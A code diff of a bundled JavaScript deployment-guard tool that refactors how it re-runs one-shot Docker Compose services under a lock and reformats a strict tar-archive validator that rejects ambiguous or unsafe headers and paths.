-    const same = before.container_ids.length === after.container_ids.length && before.container_ids.every((id, i) => after.container_ids[i] === id);
-    if (!same) {
-        return `module '${before.module}' was recreated or removed during the apply: container ${before.container_ids.map((i) => i.slice(0, 12)).join(',')} → ${after.container_ids.map((i) => i.slice(0, 12)).join(',') || 'none'}`;
-    }
-    return dependencyProblem(after);
 }
 function renderedImages(services, service) {
     const img = services[service]?.image;
@@ -7121,8 +7351,6 @@ function renderedImages(services, service) {
 async function applyOneShot(req, deps) {
     const m = req.module;
     const runtime = deps.runtime;
-    const scrub = new report_scrub/* Scrubber */.h6();
-    const clock = deps.clock ?? (() => performance.now());
     const out = {
         module: m.name,
         status: 'failed',
@@ -7142,35 +7370,15 @@ async function applyOneShot(req, deps) {
         log_tail: [],
         warnings: [],
     };
-    const say = (msg) => {
-        const clean = scrub.scrub(msg);
-        out.messages.push(clean);
-        deps.log.info(clean);
-    };
-    // Set once anything was started on the engine: from then on no outcome is "could not run"
-    // (exit 3) — something ran, so the answer is a "no" with what happened (exit 1).
-    const ran = { started: false };
-    const end = (status, reason, message, couldNotRun = false) => {
-        out.status = status;
-        out.failure_reason = reason;
-        out.could_not_run = couldNotRun && !ran.started;
-        say(message);
-        out.verdict = out.messages[out.messages.length - 1];
-        return out;
-    };
     // A long-running module is never applied by this path: refuse before touching the engine.
     if (m.expectedState !== 'exited-success') {
-        return end('refused', 'drift-not-allowed', `apply only re-runs one-shot modules (expected_state: exited-success); module '${m.name}' is expected_state: ${m.expectedState}. ` +
-            `Deploy long-running services through your normal deploy, not stateguard apply.`);
+        const verdict = `apply only re-runs one-shot modules (expected_state: exited-success); module ` +
+            `'${m.name}' is expected_state: ${m.expectedState}. ` +
+            `Deploy long-running services through your normal deploy, not stateguard apply.`;
+        deps.log.info(verdict);
+        return { ...out, status: 'refused', failure_reason: 'drift-not-allowed', verdict, messages: [verdict] };
     }
-    const dependencies = [];
-    for (const name of m.dependsOnHealthy) {
-        const d = req.modules.find((x) => x.name === name);
-        if (!d)
-            return end('refused', 'invalid-modules', `depends_on_healthy names '${name}', which is not a module; run stateguard validate.`);
-        dependencies.push(d);
-    }
-    // 1. Lock. The module's image (rendered by compose) is the preferred lock image.
+    // The module's image (rendered by compose) is the preferred lock image.
     let moduleImages = [];
     let rendered;
     try {
@@ -7179,105 +7387,58 @@ async function applyOneShot(req, deps) {
         moduleImages = renderedImages(services, m.compose.service);
     }
     catch {
-        // Not fatal here: the fresh plan below renders again and blocks with the precise reason.
+        // Not fatal here: the fresh plan renders again and blocks with the precise reason.
     }
-    const taken = await acquireLock(runtime, {
-        module: m.name,
-        project: m.compose.project,
-        service: m.compose.service,
-        moduleImages,
-        holder: req.holder,
-        now: deps.now(),
-        staleAfterMs: req.staleAfterMs,
-        breakStale: req.breakStaleLock,
-    }, m.timeoutSeconds);
-    if (!taken.acquired) {
-        out.lock_refusal = taken.refusal;
-        return end('refused', 'locked', taken.refusal.message);
-    }
-    const lock = taken.lock;
-    out.lock = { name: lock.name, holder: lock.holder, since: lock.since, ...(lock.broke ? { broke: lock.broke } : {}) };
-    if (lock.broke) {
-        const w = `broke a stale apply lock held by ${lock.broke.holder} since ${lock.broke.since} (break-stale-lock: true)`;
-        out.warnings.push(w);
-        deps.log.warn(w);
-    }
-    say(`took the apply lock ${lock.name}`);
-    try {
-        return await underLock(req, deps, out, { say, end, scrub, clock, dependencies, rendered, ran });
-    }
-    catch (err) {
-        // Fail closed: whatever broke, this is not a success.
-        const reason = err instanceof src_errors/* EnvironmentError */.eG ? err.reason : 'internal';
-        return end('failed', reason, `apply stopped: ${(0,src_errors/* errorMessage */.gJ)(err)}`, true);
-    }
-    finally {
-        const problem = await releaseLock(runtime, lock);
-        if (problem) {
-            out.warnings.push(problem);
-            deps.log.warn(problem);
-        }
-        else {
-            out.messages.push(`released the apply lock ${lock.name}`);
-        }
-    }
+    let before = [];
+    return runGuarded({
+        verb: 'apply',
+        request: req,
+        deps,
+        out,
+        lockImages: moduleImages,
+        lockTimeoutSeconds: m.timeoutSeconds,
+        preflight: async (ev, ctx) => {
+            const r = await refuseRunInProgress(req, deps, ev, ctx);
+            if ('refused' in r)
+                return r;
+            before = r.before;
+            return { listed: r.listed };
+        },
+        step: (ev, ctx) => runOneShot(req, deps, ev, ctx, { rendered, before }),
+    });
 }
-async function underLock(req, deps, out, h) {
+/** A run still in progress is never doubled — a manual `compose run <service>` is a run too. */
+async function refuseRunInProgress(req, deps, ev, ctx) {
     const m = req.module;
-    const runtime = deps.runtime;
-    const { say, end, scrub } = h;
-    // 2. Fresh plan and guard with the same inputs: a reviewed plan may be stale by now.
-    const ev = await evaluateGuard(req, deps);
-    out.guard = ev.result;
-    out.plan_hash = ev.planHash;
-    if (req.expectedPlanHash !== undefined && ev.planHash !== null && ev.planHash !== req.expectedPlanHash) {
-        return end('refused', 'plan-changed', `the fresh plan of '${m.name}' (plan_hash ${ev.planHash}) differs from the reviewed one (expected-plan-hash ${req.expectedPlanHash}). ` +
-            `The module's compose definition or its drift changed since that plan. Re-run stateguard plan --module ${m.name}, ` +
-            `review it, and pass that module's plan_hash (shown per module in the plan, its summary and the PR comment).`);
-    }
-    if (ev.result.decision === 'blocked') {
-        const first = ev.result.reasons[0];
-        return end('blocked', ev.result.failure_reason || 'internal', `the guard blocked the apply of '${m.name}': ` + ev.result.reasons.map((r) => `${r.message} — fix: ${r.fix}`).join(' | '), first !== undefined && apply_EVALUATION_REASONS.includes(first.code));
-    }
-    if (ev.result.decision === 'no-op') {
-        return end('no-op', '', `module '${m.name}' is in sync: nothing to apply`);
-    }
-    if (ev.result.decision !== 'allowed') {
-        return end('blocked', 'internal', `unexpected guard decision ${JSON.stringify(ev.result.decision)}; stateguard failed closed`, true);
-    }
-    say(`guard: allowed (${ev.result.drift_keys.join(', ')})`);
-    // 3. A run still in progress is never doubled.
-    // A manual `compose run <service>` still in progress is a run too: it is never doubled either.
-    const all = await runtime.listProjectContainers(m.compose.project);
+    const all = await deps.runtime.listProjectContainers(m.compose.project);
     const before = ofService(all, m.compose.service);
     const busy = all.filter((c) => c.service === m.compose.service && (c.state === 'running' || c.state === 'restarting' || c.state === 'paused'));
     if (busy.length > 0 || ev.plan?.observed.state === 'running') {
-        return end('refused', 'still-running', `module '${m.name}' is still running (${busy.map((c) => `${c.id.slice(0, 12)} ${c.state}`).join(', ') || 'per the plan'}); ` +
+        const refused = ctx.end('refused', 'still-running', `module '${m.name}' is still running ` +
+            `(${busy.map((c) => `${c.id.slice(0, 12)} ${c.state}`).join(', ') || 'per the plan'}); ` +
             `a second run is refused. Wait for it to exit (docker wait), then apply again.`);
+        return { refused };
     }
     // Secrets of the previous run's environment are masked too (the new one usually has the same).
     for (const c of before)
-        registerEnvSecrets(c.env, scrub, deps.addSecret);
-    // 4. Dependencies must be healthy before, and unchanged after.
-    const depBefore = [];
-    const listedBefore = await listProjects(runtime, h.dependencies, new Map([[m.compose.project, all]]));
-    for (const d of h.dependencies) {
-        const listing = listedBefore.get(d.compose.project);
-        if (listing instanceof Error)
-            throw listing;
-        const s = dependencyState(d, listing);
-        const problem = dependencyProblem(s);
-        if (problem) {
-            out.dependencies.push({ module: d.name, before: s, after: null, ok: false, problem });
-            return end('refused', 'dependency-disturbed', `depends_on_healthy is not healthy before the apply (${problem}); nothing was run. Bring it back to running and healthy first.`);
-        }
-        depBefore.push(s);
-    }
+        registerEnvSecrets(c.env, ctx.scrub, deps.addSecret);
+    return { before, listed: new Map([[m.compose.project, all]]) };
+}
+/** The one-shot itself: checks that need the rendered service, recreate, wait, logs, record. */
+async function runOneShot(req, deps, ev, h, known) {
+    const m = req.module;
+    const runtime = deps.runtime;
+    const { say, end, scrub, out } = h;
+    const clock = deps.clock ?? (() => performance.now());
     // A one-shot runs as exactly one container: compose would start `scale`/`deploy.replicas` of
     // them against the same data at once. validate refuses it statically; this is the rendered value.
-    const replicas = h.rendered ? (0,validate/* oneShotReplicaProblem */.Cy)(h.rendered) : 'could not be rendered to check its replica count';
+    const replicas = known.rendered
+        ? (0,validate/* oneShotReplicaProblem */.Cy)(known.rendered)
+        : 'could not be rendered to check its replica count';
     if (replicas) {
-        return end('refused', 'invalid-modules', `one-shot service '${m.compose.service}' ${replicas}; a one-shot runs as exactly one container. Nothing was run: set it to 1 or remove it, then apply again.`);
+        return end('refused', 'invalid-modules', `one-shot service ` +
+            `'${m.compose.service}' ${replicas}; a one-shot runs as exactly one container. Nothing was run: set it to 1 ` +
+            `or remove it, then apply again.`);
     }
     // apply never pulls (or builds): the image that runs is the one on the engine now, or nothing runs.
     const declaredImage = ev.plan?.declared.image;
@@ -7288,15 +7449,15 @@ async function underLock(req, deps, out, h) {
         return end('refused', 'image-not-present', `image ${declaredImage} of '${m.compose.service}' is not on the engine, and apply never pulls or builds: ` +
             `pull (or build) it deliberately, re-plan, review the plan, then apply again.`);
     }
-    const started = h.clock();
-    h.ran.started = true;
+    const started = clock();
+    h.started();
     const rec = await runtime.recreateService(target(m), m.compose.service);
     if (rec.code !== 0) {
         const detail = scrub.scrub((rec.stderr || rec.stdout).trim().split('\n').slice(-5).join(' / '));
-        await checkDependencies(runtime, h.dependencies, depBefore, out);
+        await h.checkDependencies();
         return end('failed', 'compose-error', `compose could not recreate '${m.compose.service}' (exit ${rec.code}): ${detail}`, true);
     }
-    const oldIds = new Set(before.map((c) => c.id));
+    const oldIds = new Set(known.before.map((c) => c.id));
     const fresh = (await listServiceContainers(runtime, m.compose)).filter((c) => !oldIds.has(c.id));
     if (fresh.length !== 1) {
         // More than one run against the same data must not go on: stop every one of them.
@@ -7307,17 +7468,22 @@ async function underLock(req, deps, out, h) {
                 stopped = ` Stopped all of them (${fresh.map((c) => c.id.slice(0, 12)).join(', ')}); check the module's data.`;
             }
             catch (err) {
-                stopped = ` Could not stop them (${(0,src_errors/* errorMessage */.gJ)(err)}): stop ${fresh.map((c) => c.id.slice(0, 12)).join(', ')} by hand now.`;
+                stopped =
+                    ` Could not stop them ` +
+                        `(${(0,src_errors/* errorMessage */.gJ)(err)}): stop ${fresh.map((c) => c.id.slice(0, 12)).join(', ')} by hand now.`;
             }
         }
-        await checkDependencies(runtime, h.dependencies, depBefore, out);
-        return end('failed', 'compose-error', `after recreating '${m.compose.service}' expected exactly one new container, found ${fresh.length}; refusing to guess which ran.${stopped}`);
+        await h.checkDependencies();
+        return end('failed', 'compose-error', `after recreating ` +
+            `'${m.compose.service}' expected exactly one new container, found ` +
+            `${fresh.length}; refusing to guess which ran.${stopped}`);
     }
     const run = fresh[0];
     out.container_id = run.id;
     // 6 (before any log line): every secret-looking value of the container's environment.
     registerEnvSecrets(run.env, scrub, deps.addSecret);
-    say(`started ${m.compose.service} as container ${run.id.slice(0, 12)}; waiting up to ${m.timeoutSeconds}s for it to exit`);
+    say(`started ${m.compose.service} as container ` +
+        `${run.id.slice(0, 12)}; waiting up to ${m.timeoutSeconds}s for it to exit`);
     // 5 + 6. Wait with the engine while the logs stream, scrubbed, line by line.
     const lines = new LineScrubber(scrub, (line) => deps.log.raw(`${m.compose.service} | ${line}\n`));
     const logsDone = runtime
@@ -7331,11 +7497,11 @@ async function underLock(req, deps, out, h) {
         waited = await runtime.wait(run.id, m.timeoutSeconds * 1000);
     }
     catch (err) {
-        out.duration_ms = Math.round(h.clock() - started);
+        out.duration_ms = Math.round(clock() - started);
         await settle(logsDone, deps.logGraceMs ?? 15_000);
         lines.flush();
         out.log_tail = lines.lastLines();
-        await checkDependencies(runtime, h.dependencies, depBefore, out);
+        await h.checkDependencies();
         return end('failed', err instanceof src_errors/* EnvironmentError */.eG ? err.reason : 'internal', `waiting for the one-shot failed: ${(0,src_errors/* errorMessage */.gJ)(err)}`, true);
     }
     if (waited.timedOut) {
@@ -7347,7 +7513,7 @@ async function underLock(req, deps, out, h) {
             out.warnings.push(scrub.scrub(`could not stop ${run.id.slice(0, 12)}: ${(0,src_errors/* errorMessage */.gJ)(err)}; stop it by hand`));
         }
     }
-    out.duration_ms = Math.round(h.clock() - started);
+    out.duration_ms = Math.round(clock() - started);
     await settle(logsDone, deps.logGraceMs ?? 15_000);
     lines.flush();
     out.log_tail = lines.lastLines();
@@ -7355,10 +7521,14 @@ async function underLock(req, deps, out, h) {
     if (!waited.timedOut && waited.exitCode === 0)
         await recordSuccess(runtime, m, run, declaredConfigHash(ev), deps.now(), out, deps.log);
     // 7. Success needs exit 0 AND every dependency untouched.
-    const depsOk = await checkDependencies(runtime, h.dependencies, depBefore, out);
+    const depsOk = await h.checkDependencies();
     const problems = out.dependencies.filter((d) => !d.ok).map((d) => d.problem);
     if (!depsOk) {
-        const also = waited.timedOut ? ' The one-shot also timed out.' : waited.exitCode !== 0 ? ` The one-shot also exited ${waited.exitCode}.` : '';
+        const also = waited.timedOut
+            ? ' The one-shot also timed out.'
+            : waited.exitCode !== 0
+                ? ` The one-shot also exited ${waited.exitCode}.`
+                : '';
         return end('failed', 'dependency-disturbed', `a depends_on_healthy module was disturbed: ${problems.join('; ')}.${also} Check it now.`);
     }
     if (waited.timedOut) {
@@ -7390,34 +7560,14 @@ async function recordSuccess(runtime, m, run, configHash, now, out, log) {
         });
     }
     catch (err) {
-        const w = `could not record the successful run on the engine (${(0,src_errors/* errorMessage */.gJ)(err)}); the next plan may show the one-shot as pending again`;
+        const w = `could not record the successful run on the engine ` +
+            `(${(0,src_errors/* errorMessage */.gJ)(err)}); the next plan may show the one-shot as pending again`;
         out.warnings.push(w);
         log.warn(w);
     }
 }
 function declaredConfigHash(ev) {
     return ev.plan?.declared.config_hash ?? '';
-}
-async function checkDependencies(runtime, deps, before, out) {
-    let ok = true;
-    const listed = await listProjects(runtime, deps);
-    for (const [i, d] of deps.entries()) {
-        const b = before[i];
-        let after = null;
-        let problem;
-        const listing = listed.get(d.compose.project);
-        if (listing instanceof Error) {
-            problem = `module '${d.name}' could not be read after the apply: ${(0,src_errors/* errorMessage */.gJ)(listing)}`;
-        }
-        else {
-            after = dependencyState(d, listing);
-            problem = compareDependency(b, after);
-        }
-        if (problem)
-            ok = false;
-        out.dependencies.push({ module: d.name, before: b, after, ok: problem === null, problem });
-    }
-    return ok;
 }
 /** Wait for a promise, but never longer than ms (a stuck log stream must not hang the apply). */
 async function settle(p, ms) {
@@ -7467,7 +7617,8 @@ function checkTypeFlag(flag) {
     if (flag === '0' || flag === '\0' || flag === '5')
         return null;
     const shown = JSON.stringify(flag);
-    return `entry is ${TYPE_REASON[flag] ?? 'of an unknown type'} (type flag ${shown}); only regular files and directories are accepted`;
+    return (`entry is ${TYPE_REASON[flag] ?? 'of an unknown type'} (type flag ` +
+        `${shown}); only regular files and directories are accepted`);
 }
 const MAX_PATH_BYTES = 4096;
 /**
@@ -7481,7 +7632,6 @@ function pathProblems(p) {
         return ['empty path'];
     if (p.includes('\0'))
         out.push('path contains a NUL byte');
-    // eslint-disable-next-line no-control-regex
     else if (/[\x01-\x1f\x7f]/.test(p))
         out.push('path contains a control character');
     if (p.startsWith('/'))
@@ -7498,8 +7648,7 @@ function pathProblems(p) {
 }
 /** A path made safe to print in a message: control characters escaped, long ones shortened. */
 function printablePath(p) {
-    // eslint-disable-next-line no-control-regex
-    const escaped = p.replace(/[\x00-\x1f\x7f\\]/g, (c) => (c === '\\' ? '\\\\' : `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`));
+    const escaped = p.replace(/[\x00-\x1f\x7f\\]/g, (c) => c === '\\' ? '\\\\' : `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`);
     return escaped.length > 300 ? `${escaped.slice(0, 150)}…${escaped.slice(-100)}` : escaped;
 }
 const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
@@ -7508,22 +7657,33 @@ const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
  * record in bytes) from its raw bytes. A record whose length does not add up (a value containing a
  * newline, say) is dropped by some readers and honoured by others, a key given twice is resolved
  * differently, and keys and values must be UTF-8 (hdrcharset is refused): such a header could be
- * read two ways, so it is malformed here. Trailing NUL padding inside the body is tolerated by
- * every reader.
+ * read two ways, so it is malformed here, and so are bytes after the last record (busybox refuses
+ * them where GNU tar and Python skip them).
  */
 function parsePaxRecords(buf) {
     const records = new Map();
     let pos = 0;
     while (pos < buf.length) {
-        if (buf[pos] === 0 && buf.subarray(pos).every((b) => b === 0))
-            break;
+        if (buf[pos] === 0) {
+            // Found by the differential test: busybox tar refuses a PAX body whose size covers NUL bytes
+            // after the last record (GNU tar and Python skip them). No writer emits that: refused.
+            return {
+                kind: 'malformed',
+                code: 'unsupported-header',
+                reason: `the PAX header's size covers ${buf.length - pos} bytes after its last record; readers disagree on it`,
+            };
+        }
         const space = buf.indexOf(0x20, pos);
         const digits = space === -1 ? '' : buf.toString('latin1', pos, space);
         if (!/^[1-9]\d{0,9}$/.test(digits))
             return { kind: 'malformed', code: 'unsupported-header', reason: `bad PAX record length at byte ${pos}` };
         const end = pos + Number(digits);
         if (end > buf.length || buf[end - 1] !== 0x0a) {
-            return { kind: 'malformed', code: 'unsupported-header', reason: `PAX record at byte ${pos} does not end where its length says` };
+            return {
+                kind: 'malformed',
+                code: 'unsupported-header',
+                reason: `PAX record at byte ${pos} does not end where its length says`,
+            };
         }
         const eq = buf.indexOf(0x3d, space + 1);
         if (eq === -1 || eq >= end - 1 || eq === space + 1) {
@@ -7545,7 +7705,11 @@ function parsePaxRecords(buf) {
             };
         }
         if (records.has(key)) {
-            return { kind: 'malformed', code: 'unsupported-header', reason: `PAX record ${JSON.stringify(printablePath(key))} appears twice; readers differ in which one wins` };
+            return {
+                kind: 'malformed',
+                code: 'unsupported-header',
+                reason: `PAX record ${JSON.stringify(printablePath(key))} appears twice; readers differ in which one wins`,
+            };
         }
         records.set(key, value);
         pos = end;
@@ -7577,25 +7741,41 @@ function paxRecordProblems(records) {
         if (key.startsWith('GNU.sparse.')) {
             // one sparse finding per header is enough
             if (!sparse)
-                out.push({ code: 'forbidden-entry-type', message: `entry is a GNU sparse file (PAX record ${key}); only regular files and directories are accepted` });
+                out.push({
+                    code: 'forbidden-entry-type',
+                    message: `entry is a GNU sparse file (PAX record ${key}); only regular files and directories are accepted`,
+                });
             sparse = true;
             continue;
         }
         const shape = Object.hasOwn(PAX_KEYS, key) ? PAX_KEYS[key] : undefined;
         if (!shape) {
-            out.push({ code: 'unsupported-header', message: `PAX record ${JSON.stringify(printablePath(key))} is not one stateguard accepts (only ${Object.keys(PAX_KEYS).join(', ')}); readers differ in what they do with it` });
+            out.push({
+                code: 'unsupported-header',
+                message: `PAX record ${JSON.stringify(printablePath(key))} is not one stateguard accepts (only ` +
+                    `${Object.keys(PAX_KEYS).join(', ')}); readers differ in what they do with it`,
+            });
         }
         else if (value === '' && (key === 'path' || key === 'size')) {
-            out.push({ code: 'unsupported-header', message: `an empty PAX ${key} record (readers differ: "unset" or an empty value)` });
+            out.push({
+                code: 'unsupported-header',
+                message: `an empty PAX ${key} record (readers differ: "unset" or an empty value)`,
+            });
         }
         else if (key === 'size' && !shape.test(value)) {
-            out.push({ code: 'unsupported-header', message: `PAX size record ${JSON.stringify(value.slice(0, 40))} is not a number` });
+            out.push({
+                code: 'unsupported-header',
+                message: `PAX size record ${JSON.stringify(value.slice(0, 40))} is not a number`,
+            });
         }
         else if (key === 'path' && value.includes('\0')) {
             out.push({ code: 'unsafe-path', message: 'PAX path record contains a NUL byte', entry: printablePath(value) });
         }
         else if (!shape.test(value)) {
-            out.push({ code: 'unsupported-header', message: `PAX ${key} record ${JSON.stringify(printablePath(value.slice(0, 40)))} is not well-formed` });
+            out.push({
+                code: 'unsupported-header',
+                message: `PAX ${key} record ${JSON.stringify(printablePath(value.slice(0, 40)))} is not well-formed`,
+            });
         }
     }
     return out;
@@ -7728,7 +7908,10 @@ class NameIndex {
                 parent = id;
             }
             else if (v % 4 === KIND_FILE) {
-                return ['path-conflict', `its parent ${segments.slice(0, i + 1).join('/')} is a regular file earlier in the archive`];
+                return [
+                    'path-conflict',
+                    `its parent ${segments.slice(0, i + 1).join('/')} is a regular file earlier in the archive`,
+                ];
             }
             else {
                 parent = Math.floor(v / 4);
@@ -7750,8 +7933,15 @@ class NameIndex {
             return ['path-conflict', 'a regular file where earlier entries put a directory (entries under this path)'];
         }
         if (old === kind)
-            return ['duplicate-entry', 'the same name appears twice (after NFC and ./, //, trailing / are normalised); restorers keep one of them'];
-        return ['path-conflict', `a ${isDir ? 'directory' : 'regular file'} where an earlier entry is a ${isDir ? 'regular file' : 'directory'} of the same name`];
+            return [
+                'duplicate-entry',
+                'the same name appears twice (after NFC and ./, //, trailing / are normalised); restorers keep one of them',
+            ];
+        return [
+            'path-conflict',
+            `a ${isDir ? 'directory' : 'regular file'} where an earlier entry is a ` +
+                `${isDir ? 'regular file' : 'directory'} of the same name`,
+        ];
     }
 }
 class TarWalker {
@@ -7802,7 +7992,10 @@ class TarWalker {
                 case 'end': {
                     // Only zero padding may follow the end-of-archive marker: data hidden there is extracted by `tar -i`.
                     if (!allZero(chunk.subarray(pos))) {
-                        this.problem({ code: 'tar-corrupt', message: 'data follows the end-of-archive marker (only zero padding may follow)' });
+                        this.problem({
+                            code: 'tar-corrupt',
+                            message: 'data follows the end-of-archive marker (only zero padding may follow)',
+                        });
                         this.die();
                     }
                     return;
@@ -7851,7 +8044,10 @@ class TarWalker {
                 this.zeroPending = false;
                 this.sawEnd = true;
                 if (this.pending) {
-                    this.problem({ code: 'unsupported-header', message: 'an extension header is followed by the end of the archive, not by an entry' });
+                    this.problem({
+                        code: 'unsupported-header',
+                        message: 'an extension header is followed by the end of the archive, not by an entry',
+                    });
                     this.pending = null;
                 }
                 this.mode = { kind: 'end' };
@@ -7865,7 +8061,9 @@ class TarWalker {
             this.zeroPending = false;
             this.problem({
                 code: 'lone-zero-block',
-                message: `a single zero block at byte ${offset - BLOCK} is followed by more entries: restorers stop at it, so what follows would be lost on restore (or read by some readers only)`,
+                message: `a single zero block at byte ` +
+                    `${offset - BLOCK} is followed by more entries: restorers stop at it, so what follows would be lost on ` +
+                    `restore (or read by some readers only)`,
             });
         }
         // ---- checksum: if it does not add up nothing in the header can be trusted ----
@@ -7875,12 +8073,19 @@ class TarWalker {
             sum += i >= 148 && i < 156 ? 0x20 : h[i];
         if (stored === null) {
             const rendered = JSON.stringify(h.subarray(148, 156).toString('latin1'));
-            this.problem({ code: 'ambiguous-header', message: `header checksum field ${rendered} is not plain octal; readers disagree on it. Stopped reading the tar.` });
+            this.problem({
+                code: 'ambiguous-header',
+                message: `header checksum field ` + `${rendered} is not plain octal; readers disagree on it. Stopped reading the tar.`,
+            });
             this.die();
             return;
         }
         if (stored !== sum) {
-            this.problem({ code: 'tar-corrupt', message: `tar header checksum failure at byte ${offset} (stored ${stored.toString(8)}, computed ${sum.toString(8)}). Stopped reading the tar.` });
+            this.problem({
+                code: 'tar-corrupt',
+                message: `tar header checksum failure at byte ` +
+                    `${offset} (stored ${stored.toString(8)}, computed ${sum.toString(8)}). Stopped reading the tar.`,
+            });
             this.die();
             return;
         }
@@ -7893,7 +8098,9 @@ class TarWalker {
         if (!posix && !gnu) {
             this.problem({
                 code: 'ambiguous-header',
-                message: `header magic/version ${JSON.stringify(magic.toString('latin1'))} is neither POSIX ustar ("ustar\\u000000") nor GNU ("ustar  \\u0000"); readers disagree on whether the prefix field is part of the name`,
+                message: `header magic/version ` +
+                    `${JSON.stringify(magic.toString('latin1'))} is neither POSIX ustar ("ustar\\u000000") nor GNU ("ustar  ` +
+                    `\\u0000"); readers disagree on whether the prefix field is part of the name`,
                 entry: shownHeader,
             });
         }
@@ -7903,13 +8110,17 @@ class TarWalker {
         else if (!h.subarray(345, 500).every((x) => x === 0)) {
             this.problem({
                 code: 'ambiguous-header',
-                message: `a ${gnu ? 'GNU' : 'non-POSIX'} header has bytes in the prefix field (${shownBytes(cString(h, 345, 155))}); Python joins them to the name, other readers do not`,
+                message: `a ${gnu ? 'GNU' : 'non-POSIX'} header has bytes in the prefix field ` +
+                    `(${shownBytes(cString(h, 345, 155))}); Python joins them to the name, other readers do not`,
                 entry: shownHeader,
             });
         }
         if (h[0] === 0 && (!posix || h[345] === 0)) {
             // busybox tar takes a header whose name (and prefix) is empty for the end-of-archive marker
-            this.problem({ code: 'ambiguous-header', message: 'a header with an empty name field: busybox tar reads it as the end of the archive, other readers go on' });
+            this.problem({
+                code: 'ambiguous-header',
+                message: 'a header with an empty name field: busybox tar reads it as the end of the archive, other readers go on',
+            });
         }
         // A file or directory has no link target; busybox lists a set linkname as `name -> target` and
         // others ignore it: readers disagree, so it is refused (only extension headers may carry junk
@@ -7917,7 +8128,8 @@ class TarWalker {
         if (h[157] !== 0) {
             this.problem({
                 code: 'ambiguous-header',
-                message: `the linkname field is set (${shownBytes(cString(h, 157, 100))}) on an entry that cannot be a link; readers disagree on it`,
+                message: `the linkname field is set ` +
+                    `(${shownBytes(cString(h, 157, 100))}) on an entry that cannot be a link; readers disagree on it`,
                 entry: shownHeader,
             });
         }
@@ -7943,17 +8155,30 @@ class TarWalker {
             badFields.push('devminor');
         if (badFields.length) {
             const show = (f) => {
-                const at = { mode: [100, 8], uid: [108, 8], gid: [116, 8], size: [124, 12], mtime: [136, 12], devmajor: [329, 8], devminor: [337, 8] }[f];
+                const at = {
+                    mode: [100, 8],
+                    uid: [108, 8],
+                    gid: [116, 8],
+                    size: [124, 12],
+                    mtime: [136, 12],
+                    devmajor: [329, 8],
+                    devminor: [337, 8],
+                }[f];
                 return `${f} ${JSON.stringify(h.subarray(at[0], at[0] + at[1]).toString('latin1'))}`;
             };
             this.problem({
                 code: 'ambiguous-header',
-                message: `numeric field${badFields.length > 1 ? 's' : ''} not plain octal (a sign, junk, base-256 or empty; readers disagree): ${badFields.map(show).join(', ')}`,
+                message: `numeric field${badFields.length > 1 ? 's' : ''} not plain octal (a sign, junk, base-256 or empty; ` +
+                    `readers disagree): ${badFields.map(show).join(', ')}`,
                 entry: shownHeader,
             });
         }
         if (size === null) {
-            this.problem({ code: 'ambiguous-header', message: 'the size field cannot be read, so where the next header starts is unknown. Stopped reading the tar.', entry: shownHeader });
+            this.problem({
+                code: 'ambiguous-header',
+                message: 'the size field cannot be read, so where the next header starts is unknown. Stopped reading the tar.',
+                entry: shownHeader,
+            });
             this.die();
             return;
         }
@@ -7968,7 +8193,8 @@ class TarWalker {
                 code: 'unsupported-header',
                 message: flag === 'g'
                     ? 'a global PAX header (type g) changes every later entry; readers disagree on it'
-                    : 'a GNU long link name (type K): only regular files and directories are accepted, which have no link target',
+                    : 'a GNU long link name (type K): only regular files and directories are accepted, which have no link ' +
+                        'target',
             });
             this.notePending('broken');
             this.mode = size + padding > 0 ? { kind: 'skip', remaining: size + padding } : { kind: 'header' };
@@ -7997,22 +8223,34 @@ class TarWalker {
         const cap = flag === 'x' ? MAX_PAX_BODY : MAX_LONGNAME_BODY;
         let ok = true;
         if (flag === 'L' && !gnu) {
-            this.problem({ code: 'unsupported-header', message: 'a GNU long name (type L) in a header without GNU magic; readers disagree on it', entry: shown });
+            this.problem({
+                code: 'unsupported-header',
+                message: 'a GNU long name (type L) in a header without GNU magic; readers disagree on it',
+                entry: shown,
+            });
             ok = false;
         }
         if (size > cap) {
             this.problem({
                 code: 'unsupported-header',
-                message: `${flag === 'x' ? 'PAX extended header' : 'GNU long name'} of ${size} bytes is larger than ${cap}; the entry after it could be read two ways`,
+                message: `${flag === 'x' ? 'PAX extended header' : 'GNU long name'} of ${size} bytes is larger than ` +
+                    `${cap}; the entry after it could be read two ways`,
             });
             ok = false;
         }
         if (size === 0) {
-            this.problem({ code: 'unsupported-header', message: `an empty ${flag === 'x' ? 'PAX extended header' : 'GNU long name'}`, entry: shown });
+            this.problem({
+                code: 'unsupported-header',
+                message: `an empty ${flag === 'x' ? 'PAX extended header' : 'GNU long name'}`,
+                entry: shown,
+            });
             ok = false;
         }
         this.notePending(ok ? 'ok' : 'broken');
-        this.mode = size === 0 ? { kind: 'header' } : { kind: 'ext', type: flag, size, body: ok ? Buffer.alloc(size) : null, got: 0, padding };
+        this.mode =
+            size === 0
+                ? { kind: 'header' }
+                : { kind: 'ext', type: flag, size, body: ok ? Buffer.alloc(size) : null, got: 0, padding };
     }
     extensionDone(mode) {
         const pending = this.pending;
@@ -8023,14 +8261,20 @@ class TarWalker {
             if (nul === -1 || !mode.body.subarray(nul).every((x) => x === 0)) {
                 this.problem({
                     code: 'unsupported-header',
-                    message: nul === -1 ? 'a GNU long name without its terminating NUL' : 'a GNU long name with bytes after its terminating NUL; readers disagree on it',
+                    message: nul === -1
+                        ? 'a GNU long name without its terminating NUL'
+                        : 'a GNU long name with bytes after its terminating NUL; readers disagree on it',
                 });
                 pending.broken = true;
                 return;
             }
             const name = decode(mode.body.subarray(0, nul));
             if (name === null) {
-                this.problem({ code: 'bad-encoding', message: 'the GNU long name is not valid UTF-8', entry: shownBytes(mode.body.subarray(0, nul)) });
+                this.problem({
+                    code: 'bad-encoding',
+                    message: 'the GNU long name is not valid UTF-8',
+                    entry: shownBytes(mode.body.subarray(0, nul)),
+                });
                 pending.broken = true;
                 return;
             }
@@ -8039,7 +8283,11 @@ class TarWalker {
         }
         const parsed = parsePaxRecords(mode.body);
         if (parsed.kind === 'malformed') {
-            this.problem({ code: parsed.code, message: `malformed PAX extended header: ${parsed.reason}`, ...(parsed.entry ? { entry: parsed.entry } : {}) });
+            this.problem({
+                code: parsed.code,
+                message: `malformed PAX extended header: ${parsed.reason}`,
+                ...(parsed.entry ? { entry: parsed.entry } : {}),
+            });
             pending.broken = true;
             return;
         }
@@ -8060,7 +8308,10 @@ class TarWalker {
         this.pending = null;
         this.entries++;
